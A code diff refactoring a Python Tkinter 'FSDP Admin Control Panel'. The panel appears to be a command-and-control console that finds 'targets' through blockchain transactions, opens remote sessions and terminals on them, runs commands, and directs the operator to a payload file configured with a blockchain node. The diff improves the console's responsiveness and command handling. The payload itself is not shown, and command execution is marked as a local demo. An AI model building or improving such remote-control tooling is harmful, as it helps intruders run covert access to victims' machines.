@@ -7,10 +7,12 @@ No database, no Node.js, just Python!
 import sys
 import os
 import tkinter as tk
-from tkinter import ttk, scrolledtext, messagebox
-import threading
+from tkinter import ttk, messagebox
 import time
+import queue
+import itertools
 from datetime import datetime
+from concurrent.futures import ThreadPoolExecutor
 
 # Add path
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
@@ -20,6 +22,13 @@ from fsdp.protocol.fsdp_protocol import FSDPProtocol, MessageType
 from fsdp.protocol.session_manager import SessionManager
 
 class FSDPAdminGUI:
+    # Maximum lines kept in the log and terminal widgets
+    LOG_MAX_LINES = 2000
+    TERM_MAX_LINES = 5000
+    
+    # Treeviews with more rows than this only fill in values for visible rows
+    VIRTUAL_ROWS_THRESHOLD = 200
+    
     def __init__(self, root):
         self.root = root
         self.root.title("FSDP Admin Control Panel")
@@ -36,6 +45,42 @@ class FSDPAdminGUI:
         self.targets = {}
         self.running = False
         
+        # Last values shown per treeview row (iid -> values)
+        self._target_rows = {}
+        self._session_rows = {}
+        
+        # Latest rows per treeview and the rows currently holding values
+        self._tree_rows = {}
+        self._filled_rows = {}
+        
+        # Formatted session strings keyed by (session_id, created_at)
+        self._fmt_cache = {}
+        
+        # Next block index to scan for target discovery
+        self._last_scanned_block = 0
+        
+        # (second, 'HH:MM:SS') of the last formatted log timestamp
+        self._ts_cache = (0, '')
+        
+        # Log lines are queued from any thread and drained on the Tk main thread
+        self._log_queue = queue.Queue()
+        
+        # Commands run on a single worker so they keep their order; results
+        # come back through a queue
+        self._executor = ThreadPoolExecutor(max_workers=1)
+        self._result_queue = queue.Queue()
+        
+        # Session/terminal IDs: start time of this run plus a counter, so IDs
+        # never repeat within a run and don't clash with persisted sessions
+        self._id_prefix = int(time.time())
+        self._id_counter = itertools.count(1)
+        
+        # Payload generator dialog, built on first use
+        self._payload_dialog = None
+        
+        # Latest status bar text waiting for the next idle flush
+        self._pending_status = None
+        
         self.setup_ui()
         self.start_protocol()
         
@@ -46,30 +91,46 @@ class FSDPAdminGUI:
         self.notebook = ttk.Notebook(self.root)
         self.notebook.pack(fill='both', expand=True, padx=5, pady=5)
         
+        # Tabs are built the first time they are selected
+        self._built = {'dashboard': False, 'targets': False, 'terminal': False, 'sessions': False}
+        
         # Tab 1: Dashboard
         self.dashboard_frame = ttk.Frame(self.notebook)
         self.notebook.add(self.dashboard_frame, text='Dashboard')
-        self.setup_dashboard()
         
         # Tab 2: Targets
         self.targets_frame = ttk.Frame(self.notebook)
         self.notebook.add(self.targets_frame, text='Targets')
-        self.setup_targets()
         
         # Tab 3: Terminal
         self.terminal_frame = ttk.Frame(self.notebook)
         self.notebook.add(self.terminal_frame, text='Terminal')
-        self.setup_terminal()
         
         # Tab 4: Sessions
         self.sessions_frame = ttk.Frame(self.notebook)
         self.notebook.add(self.sessions_frame, text='Sessions')
-        self.setup_sessions()
+        
+        self._tab_names = {
+            str(self.dashboard_frame): 'dashboard',
+            str(self.targets_frame): 'targets',
+            str(self.terminal_frame): 'terminal',
+            str(self.sessions_frame): 'sessions'
+        }
+        
+        # Dashboard is shown first
+        self._ensure_built('dashboard')
+        
+        # Refresh the newly selected tab when switching tabs
+        self.notebook.bind('<<NotebookTabChanged>>', self._on_tab_changed)
         
         # Status bar
         self.status_bar = tk.Label(self.root, text="Ready", bd=1, relief=tk.SUNKEN, anchor=tk.W)
         self.status_bar.pack(side=tk.BOTTOM, fill=tk.X)
         
+        # Start draining queued log messages and command results
+        self._pump_log()
+        self._pump_results()
+        
     def setup_dashboard(self):
         """Setup dashboard tab"""
         
@@ -106,8 +167,7 @@ class FSDPAdminGUI:
         log_frame = ttk.LabelFrame(self.dashboard_frame, text="Activity Log", padding=10)
         log_frame.pack(fill='both', expand=True, padx=20, pady=10)
         
-        self.log_text = scrolledtext.ScrolledText(log_frame, height=15, state='disabled')
-        self.log_text.pack(fill='both', expand=True)
+        self.log_text = self._create_output_text(log_frame, height=15)
         
     def setup_targets(self):
         """Setup targets tab"""
@@ -132,7 +192,7 @@ class FSDPAdminGUI:
             self.targets_tree.column(col, width=150)
         
         scrollbar = ttk.Scrollbar(list_frame, orient='vertical', command=self.targets_tree.yview)
-        self.targets_tree.configure(yscrollcommand=scrollbar.set)
+        self._bind_virtual_scroll(self.targets_tree, scrollbar)
         
         self.targets_tree.pack(side='left', fill='both', expand=True)
         scrollbar.pack(side='right', fill='y')
@@ -158,10 +218,9 @@ class FSDPAdminGUI:
         output_frame = ttk.LabelFrame(self.terminal_frame, text="Output", padding=5)
         output_frame.pack(fill='both', expand=True, padx=5, pady=5)
         
-        self.terminal_output = scrolledtext.ScrolledText(output_frame, height=25, 
-                                                         bg='black', fg='lime',
-                                                         font=('Consolas', 10))
-        self.terminal_output.pack(fill='both', expand=True)
+        self.terminal_output = self._create_output_text(output_frame, height=25,
+                                                        bg='black', fg='lime',
+                                                        font=('Consolas', 10))
         
         # Command input
         cmd_frame = tk.Frame(self.terminal_frame)
@@ -198,7 +257,7 @@ class FSDPAdminGUI:
             self.sessions_tree.column(col, width=150)
         
         scrollbar = ttk.Scrollbar(list_frame, orient='vertical', command=self.sessions_tree.yview)
-        self.sessions_tree.configure(yscrollcommand=scrollbar.set)
+        self._bind_virtual_scroll(self.sessions_tree, scrollbar)
         
         self.sessions_tree.pack(side='left', fill='both', expand=True)
         scrollbar.pack(side='right', fill='y')
@@ -210,30 +269,35 @@ class FSDPAdminGUI:
         self.log("✓ FSDP Protocol started")
         self.log(f"✓ Admin Node ID: {self.node_id}")
         
-        # Start background update thread
-        self.update_thread = threading.Thread(target=self.background_update, daemon=True)
-        self.update_thread.start()
-        
-    def background_update(self):
-        """Background thread to update data"""
-        while self.running:
-            try:
-                self.discover_targets()
-                time.sleep(5)
-            except Exception as e:
-                print(f"Background update error: {e}")
+        # Discover targets on the Tk scheduler
+        self.discover_targets_tick()
+        
+    def discover_targets_tick(self):
+        """Discover targets every 5 seconds"""
+        if self.running:
+            self.discover_targets()
+            self.root.after(5000, self.discover_targets_tick)
                 
     def discover_targets(self):
         """Discover connected targets from blockchain"""
         try:
-            transactions = self.blockchain.get_transactions_for_node(self.node_id, since_block=0)
+            # Only scan blocks added since the last pass
+            tip = self.blockchain.get_chain_length()
+            if tip == self._last_scanned_block:
+                return
+            
+            # Cap at the tip read above; later blocks are scanned next pass
+            transactions = self.blockchain.get_transactions_for_node(
+                self.node_id, since_block=self._last_scanned_block, until_block=tip - 1
+            )
             
+            new_logs = []
             for tx in transactions:
                 sender = tx.get('from')
                 if sender and sender != self.node_id and sender not in self.targets:
                     # New target discovered
                     data = tx.get('data', {})
-                    self.targets[sender] = {
+                    info = {
                         'target_id': sender,
                         'hostname': data.get('hostname', 'Unknown'),
                         'ip': data.get('ip_address', 'Unknown'),
@@ -241,53 +305,187 @@ class FSDPAdminGUI:
                         'status': 'Online',
                         'last_seen': time.time()
                     }
-                    self.log(f"✓ New target discovered: {sender}")
+                    # Treeview row values, rebuilt only when the target changes
+                    info['_row'] = (
+                        sender[:16] + '...',
+                        info['hostname'],
+                        info['ip'],
+                        info['platform'],
+                        info['status']
+                    )
+                    self.targets[sender] = info
+                    new_logs.append(f"✓ New target discovered: {sender}")
+            
+            if new_logs:
+                self.log_batch(new_logs)
+            
+            self._last_scanned_block = tip
                     
         except Exception as e:
             print(f"Discover targets error: {e}")
             
+    def _is_visible(self, frame):
+        """Check if the tab holding frame is the selected tab"""
+        return self.notebook.select() == str(frame)
+        
+    def _ensure_built(self, name):
+        """Build a tab's widgets if they have not been built yet"""
+        if self._built[name]:
+            return
+        self._built[name] = True
+        
+        builders = {
+            'dashboard': self.setup_dashboard,
+            'targets': self.setup_targets,
+            'terminal': self.setup_terminal,
+            'sessions': self.setup_sessions
+        }
+        builders[name]()
+        
+    def _on_tab_changed(self, event=None):
+        """Build (on first visit) and refresh the tab that was just selected"""
+        name = self._tab_names.get(self.notebook.select())
+        if not name:
+            return
+        
+        self._ensure_built(name)
+        
+        if name == 'dashboard':
+            self.refresh_dashboard()
+        elif name == 'targets':
+            self.refresh_targets()
+        elif name == 'sessions':
+            self.refresh_sessions()
+            
     def refresh_dashboard(self):
         """Refresh dashboard statistics"""
+        if not self._is_visible(self.dashboard_frame):
+            return
+        
         self.stats_targets.config(text=f"Connected Targets: {len(self.targets)}")
-        self.stats_sessions.config(text=f"Active Sessions: {len(self.session_manager.sessions)}")
+        session_count = len(self.session_manager.sessions)
+        self.stats_sessions.config(text=f"Active Sessions: {session_count}")
         self.stats_blockchain.config(text=f"Blockchain Blocks: {self.blockchain.get_chain_length()}")
         self.log("Dashboard refreshed")
         
     def refresh_targets(self):
         """Refresh targets list"""
-        # Clear tree
-        for item in self.targets_tree.get_children():
-            self.targets_tree.delete(item)
-        
-        # Add targets
-        for target_id, info in self.targets.items():
-            self.targets_tree.insert('', 'end', values=(
-                target_id[:16] + '...',
-                info.get('hostname', 'Unknown'),
-                info.get('ip', 'Unknown'),
-                info.get('platform', 'Unknown'),
-                info.get('status', 'Unknown')
-            ))
+        if not self._is_visible(self.targets_frame):
+            return
+        
+        rows = {target_id: info['_row'] for target_id, info in self.targets.items()}
+        
+        self._sync_tree(self.targets_tree, rows, self._target_rows)
         
         self.log(f"Targets refreshed: {len(self.targets)} found")
         
     def refresh_sessions(self):
         """Refresh sessions list"""
-        # Clear tree
-        for item in self.sessions_tree.get_children():
-            self.sessions_tree.delete(item)
-        
-        # Add sessions
-        for session_id, session in self.session_manager.sessions.items():
-            self.sessions_tree.insert('', 'end', values=(
-                session_id[:16] + '...',
-                session.target_id[:16] + '...',
+        if not self._is_visible(self.sessions_frame):
+            return
+        
+        # Snapshot: the session manager mutates this dict from other threads
+        snapshot = list(self.session_manager.sessions.items())
+        
+        rows = {}
+        for session_id, session in snapshot:
+            # IDs and creation time never change, so format them once
+            key = (session_id, session.created_at)
+            fmt = self._fmt_cache.get(key)
+            if fmt is None:
+                fmt = (
+                    session_id[:16] + '...',
+                    session.target_id[:16] + '...',
+                    datetime.fromtimestamp(session.created_at).strftime('%H:%M:%S')
+                )
+                self._fmt_cache[key] = fmt
+            
+            rows[session_id] = (
+                fmt[0],
+                fmt[1],
                 'Active' if session.is_connected else 'Disconnected',
                 len(session.terminals),
-                datetime.fromtimestamp(session.created_at).strftime('%H:%M:%S')
-            ))
+                fmt[2]
+            )
+        
+        # Drop cached strings for sessions that are gone
+        if len(self._fmt_cache) > len(rows):
+            self._fmt_cache = {k: v for k, v in self._fmt_cache.items() if k[0] in rows}
+        
+        self._sync_tree(self.sessions_tree, rows, self._session_rows)
+        
+        self.log(f"Sessions refreshed: {len(snapshot)} found")
+        
+    def _sync_tree(self, tree, rows, cache):
+        """
+        Update a treeview to match rows (iid -> values)
+        Only inserts new rows, deletes vanished rows and updates changed rows.
+        Above VIRTUAL_ROWS_THRESHOLD rows only the visible rows get values.
+        """
+        self._tree_rows[str(tree)] = (rows, cache)
+        virtual = len(rows) > self.VIRTUAL_ROWS_THRESHOLD
+        existing = set(tree.get_children())
+        
+        for iid in existing - rows.keys():
+            tree.delete(iid)
+            cache.pop(iid, None)
+            
+        for iid, values in rows.items():
+            if virtual:
+                values = cache.get(iid, ())
+            if iid not in existing:
+                tree.insert('', 'end', iid=iid, values=values)
+            elif cache.get(iid) != values:
+                tree.item(iid, values=values)
+            cache[iid] = values
+            
+        if virtual:
+            self._fill_visible_rows(tree)
+        
+    def _bind_virtual_scroll(self, tree, scrollbar):
+        """Link tree and scrollbar, filling in visible rows whenever the view moves"""
+        pending = []
         
-        self.log(f"Sessions refreshed: {len(self.session_manager.sessions)} found")
+        def on_scroll(first, last):
+            scrollbar.set(first, last)
+            if not pending:
+                pending.append(self.root.after_idle(fill))
+                
+        def fill():
+            pending.clear()
+            self._fill_visible_rows(tree)
+            
+        tree.configure(yscrollcommand=on_scroll)
+        
+    def _fill_visible_rows(self, tree):
+        """Give values to rows in view and clear them from rows scrolled out"""
+        rows, cache = self._tree_rows.get(str(tree), ({}, {}))
+        if len(rows) <= self.VIRTUAL_ROWS_THRESHOLD:
+            return
+        
+        children = tree.get_children()
+        if not children:
+            return
+        
+        first, last = tree.yview()
+        start = int(first * len(children))
+        end = min(len(children), int(last * len(children)) + 1)
+        visible = children[start:end]
+        
+        # Rows are blanked as they leave the view so only the window holds values
+        filled = self._filled_rows.setdefault(str(tree), set())
+        for iid in filled.difference(visible):
+            if iid in cache:
+                tree.item(iid, values=())
+                cache[iid] = ()
+        filled.clear()
+        
+        for iid in visible:
+            values = rows.get(iid)
+            if values is not None and cache.get(iid) != values:
+                tree.item(iid, values=values)
+                cache[iid] = values
+            filled.add(iid)
         
     def open_session_from_target(self):
         """Open session with selected target"""
@@ -296,22 +494,15 @@ class FSDPAdminGUI:
             messagebox.showwarning("No Selection", "Please select a target first")
             return
         
-        item = self.targets_tree.item(selection[0])
-        target_id_short = item['values'][0].replace('...', '')
-        
-        # Find full target ID
-        target_id = None
-        for tid in self.targets.keys():
-            if tid.startswith(target_id_short):
-                target_id = tid
-                break
+        # Rows are keyed by full target ID
+        target_id = selection[0] if selection[0] in self.targets else None
         
         if not target_id:
             messagebox.showerror("Error", "Could not find target ID")
             return
         
         # Create session
-        session_id = f"session-{int(time.time())}"
+        session_id = f"session-{self._id_prefix}-{next(self._id_counter)}"
         session = self.session_manager.create_session(
             session_id=session_id,
             admin_id=self.node_id,
@@ -319,6 +510,7 @@ class FSDPAdminGUI:
         )
         
         self.current_session = session_id
+        self._ensure_built('terminal')
         self.session_label.config(text=session_id[:16] + '...', fg='green')
         
         self.log(f"✓ Session opened: {session_id}")
@@ -335,7 +527,7 @@ class FSDPAdminGUI:
             messagebox.showwarning("No Session", "Please open a session first")
             return
         
-        terminal_id = f"terminal-{int(time.time())}"
+        terminal_id = f"terminal-{self._id_prefix}-{next(self._id_counter)}"
         
         session = self.session_manager.sessions.get(self.current_session)
         if not session:
@@ -348,9 +540,11 @@ class FSDPAdminGUI:
         self.terminal_label.config(text=terminal_id[:16] + '...', fg='green')
         
         self.log(f"✓ Terminal created: {terminal_id}")
-        self.terminal_write(f"Terminal {terminal_id} created\n")
-        self.terminal_write(f"Working directory: {terminal.current_dir}\n")
-        self.terminal_write(f"Ready to execute commands.\n\n")
+        self.terminal_write(
+            f"Terminal {terminal_id} created\n"
+            f"Working directory: {terminal.current_dir}\n"
+            f"Ready to execute commands.\n\n"
+        )
         
     def execute_command(self):
         """Execute command in current terminal"""
@@ -362,38 +556,89 @@ class FSDPAdminGUI:
         if not command:
             return
         
-        self.terminal_write(f"\n$ {command}\n")
         self.command_entry.delete(0, tk.END)
         
         session = self.session_manager.sessions.get(self.current_session)
         if not session:
-            self.terminal_write("ERROR: Session not found\n")
+            self.terminal_write(f"\n$ {command}\nERROR: Session not found\n")
             return
         
-        # Execute locally (for demo)
+        self.terminal_write(f"\n$ {command}\n")
+        
+        # Execute locally (for demo) without blocking the Tk main thread
         terminal = session.terminals.get(self.current_terminal)
         if terminal:
-            result = terminal.execute_command(command)
-            
-            if result['output']:
-                self.terminal_write(result['output'])
-            if result['error']:
-                self.terminal_write(f"ERROR: {result['error']}\n")
-            
-            self.log(f"Command executed: {command[:30]}...")
+            future = self._executor.submit(terminal.execute_command, command)
+            future.add_done_callback(lambda f: self._result_queue.put((command, f)))
+        
+    def _pump_results(self):
+        """Write finished command results to the terminal"""
+        try:
+            while True:
+                command, future = self._result_queue.get_nowait()
+                
+                # Collect the results so the terminal is written once
+                parts = []
+                try:
+                    result = future.result()
+                    if result['output']:
+                        parts.append(result['output'])
+                    if result['error']:
+                        parts.append(f"ERROR: {result['error']}\n")
+                    self.log(f"Command executed: {command[:30]}...")
+                except Exception as e:
+                    parts.append(f"ERROR: {str(e)}\n")
+                
+                if parts:
+                    self.terminal_write("".join(parts))
+        except queue.Empty:
+            pass
+        
+        self.root.after(50, self._pump_results)
         
     def clear_terminal(self):
         """Clear terminal output"""
-        self.terminal_output.config(state='normal')
         self.terminal_output.delete('1.0', tk.END)
-        self.terminal_output.config(state='disabled')
         
     def terminal_write(self, text):
         """Write to terminal output"""
-        self.terminal_output.config(state='normal')
-        self.terminal_output.insert(tk.END, text)
-        self.terminal_output.see(tk.END)
-        self.terminal_output.config(state='disabled')
+        self._append_capped(self.terminal_output, text, self.TERM_MAX_LINES)
+        
+    def _create_output_text(self, parent, **options):
+        """Create a read-only, append-only text widget with a scrollbar and no undo stack"""
+        text = tk.Text(parent, undo=False, autoseparators=False, maxundo=0, **options)
+        scrollbar = ttk.Scrollbar(parent, orient='vertical', command=text.yview)
+        text.configure(yscrollcommand=scrollbar.set)
+        
+        text.pack(side='left', fill='both', expand=True)
+        scrollbar.pack(side='right', fill='y')
+        
+        self._make_read_only(text)
+        return text
+        
+    def _make_read_only(self, widget):
+        """
+        Block user edits on a text widget while leaving it in 'normal' state
+        Programmatic inserts need no state toggling; copy still works
+        """
+        def on_key(event):
+            if event.state & 0x4 and event.keysym.lower() in ('c', 'a'):
+                return None
+            return 'break'
+        
+        widget.bind('<Key>', on_key)
+        for sequence in ('<<Paste>>', '<<Cut>>', '<<Clear>>', '<<PasteSelection>>'):
+            widget.bind(sequence, lambda e: 'break')
+        
+    def _append_capped(self, widget, text, max_lines):
+        """Append text to a text widget, dropping the oldest lines past max_lines"""
+        widget.insert(tk.END, text)
+        
+        excess = int(float(widget.index('end-1c'))) - max_lines
+        if excess > 0:
+            widget.delete('1.0', f'{excess + 1}.0')
+        
+        widget.see(tk.END)
         
     def close_selected_session(self):
         """Close selected session"""
@@ -402,15 +647,8 @@ class FSDPAdminGUI:
             messagebox.showwarning("No Selection", "Please select a session first")
             return
         
-        item = self.sessions_tree.item(selection[0])
-        session_id_short = item['values'][0].replace('...', '')
-        
-        # Find full session ID
-        session_id = None
-        for sid in self.session_manager.sessions.keys():
-            if sid.startswith(session_id_short):
-                session_id = sid
-                break
+        # Rows are keyed by full session ID
+        session_id = selection[0] if selection[0] in self.session_manager.sessions else None
         
         if session_id:
             self.session_manager.close_session(session_id)
@@ -424,10 +662,17 @@ class FSDPAdminGUI:
                 self.terminal_label.config(text="No terminal", fg='red')
         
     def show_payload_generator(self):
-        """Show payload generator dialog"""
+        """Show payload generator dialog (built on first use, then reused)"""
+        if self._payload_dialog is not None:
+            self._payload_dialog.deiconify()
+            self._payload_dialog.lift()
+            return
+        
         dialog = tk.Toplevel(self.root)
         dialog.title("Generate Payload")
         dialog.geometry("500x400")
+        dialog.protocol("WM_DELETE_WINDOW", dialog.withdraw)
+        self._payload_dialog = dialog
         
         tk.Label(dialog, text="Generate FSDP Payload", font=('Arial', 14, 'bold')).pack(pady=10)
         
@@ -463,26 +708,67 @@ class FSDPAdminGUI:
                               f"Use the payload file in:\n"
                               f"fsdp/test_payloads/fsdp_payload_enhanced.py\n\n"
                               f"Edit the BLOCKCHAIN_NODE variable to: {node_entry.get()}")
-            dialog.destroy()
+            dialog.withdraw()
         
         ttk.Button(dialog, text="Generate", command=generate).pack(pady=20)
         
+    def _timestamp(self):
+        """Current time as HH:MM:SS, formatted at most once per second"""
+        now = int(time.time())
+        cached = self._ts_cache
+        if now != cached[0]:
+            cached = (now, time.strftime('%H:%M:%S', time.localtime(now)))
+            self._ts_cache = cached
+        return cached[1]
+        
     def log(self, message):
-        """Add message to log"""
-        timestamp = datetime.now().strftime('%H:%M:%S')
-        log_message = f"[{timestamp}] {message}\n"
+        """Queue message for the log (safe to call from any thread)"""
+        timestamp = self._timestamp()
+        self._log_queue.put((f"[{timestamp}] {message}\n", message))
+        
+    def log_batch(self, messages):
+        """Queue several messages for the log as a single entry"""
+        timestamp = self._timestamp()
+        text = "".join(f"[{timestamp}] {message}\n" for message in messages)
+        self._log_queue.put((text, messages[-1]))
+        
+    def _pump_log(self):
+        """Drain queued log messages into the log widget in one update"""
+        # Keep messages queued until the log widget exists
+        if not self._built['dashboard']:
+            self.root.after(50, self._pump_log)
+            return
+        
+        entries = []
+        try:
+            while True:
+                entries.append(self._log_queue.get_nowait())
+        except queue.Empty:
+            pass
+        
+        if entries:
+            self._append_capped(self.log_text, "".join(line for line, _ in entries), self.LOG_MAX_LINES)
+            self._set_status(entries[-1][1])
+        
+        self.root.after(50, self._pump_log)
         
-        self.log_text.config(state='normal')
-        self.log_text.insert(tk.END, log_message)
-        self.log_text.see(tk.END)
-        self.log_text.config(state='disabled')
+    def _set_status(self, message):
+        """Show message in the status bar; only the last one per idle period is drawn"""
+        if self._pending_status is None:
+            self.root.after_idle(self._flush_status)
+        self._pending_status = message
         
-        self.status_bar.config(text=message)
+    def _flush_status(self):
+        """Write the pending status message to the status bar"""
+        message, self._pending_status = self._pending_status, None
+        if message is not None:
+            self.status_bar.config(text=message)
         
     def on_closing(self):
         """Handle window closing"""
         if messagebox.askokcancel("Quit", "Do you want to quit?"):
             self.running = False
+            self._executor.shutdown(wait=False)
             self.protocol.stop()
             self.session_manager.shutdown()
             self.root.destroy()